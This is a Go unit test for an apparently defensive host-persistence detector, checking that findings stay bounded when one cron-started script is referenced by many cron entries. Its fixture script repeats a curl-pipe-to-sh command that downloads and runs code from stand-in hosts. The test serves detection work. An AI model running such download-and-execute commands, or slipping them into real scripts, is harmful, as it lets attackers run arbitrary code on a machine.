package detect

import (
	"fmt"
	"strings"
	"testing"

	"github.com/deminer/deminer"
	"github.com/deminer/deminer/internal/host/hosttest"
)

// TestManyEntriesOfOneScript: what is found of a script's commands does not grow with the number of entries that start it.
func TestManyEntriesOfOneScript(t *testing.T) {
	const name, bad, entries = "/usr/local/bin/job.sh", 20, 60
	text := "#!/bin/sh\n/usr/local/bin/backup\n" + strings.Repeat("curl -fsS http://203.0.113.7/x | sh\n", bad-1) + "curl -fsS http://203.0.113.8/y | sh\n"
	h, err := hosttest.Parse([]byte("-- " + name + " --\n" + text + "-- /usr/local/bin/backup --\nbackup of it all\n-- @attr --\n" + name + " mode=755\n/usr/local/bin/backup mode=755\n"))
	if err != nil {
		t.Fatal(err)
	}
	own := []deminer.Provenance{{State: deminer.Unowned}}
	s := deminer.Shared{Whole: file(name)}
	for i, l := range strings.Split(strings.TrimSpace(text), "\n")[1:] {
		f := deminer.Foothold{Mechanism: "cron", ID: "PL-01", Path: name, Line: deminer.Raw(l), LineNo: i + 2, Command: deminer.Raw(l), Part: fmt.Sprint(i)}
		if i == 0 {
			f.Targets, f.TargetOwn = []string{l}, own
		}
		s.Parts = append(s.Parts, f)
	}
	h.Snapshot.Shared = []deminer.Shared{s}
	for i := range entries {
		h.Snapshot.Footholds = append(h.Snapshot.Footholds, deminer.Foothold{Mechanism: "cron", ID: "PL-01", Path: "/etc/cron.d/a",
			Line: deminer.Raw(fmt.Sprintf("%d * * * * root %s", i, name)), Command: name, Targets: []string{name}, TargetOwn: own})
	}
	n := 0
	p := newPass(t, h, func(f deminer.Finding) { n++ })
	for _, d := range All() {
		if err := d.Run(t.Context(), p); err != nil {
			t.Error(err)
		}
	}
	if n < bad || n > 4*bad+entries {
		t.Errorf("%d entries and %d commands: %d findings", entries, bad, n)
	}
}
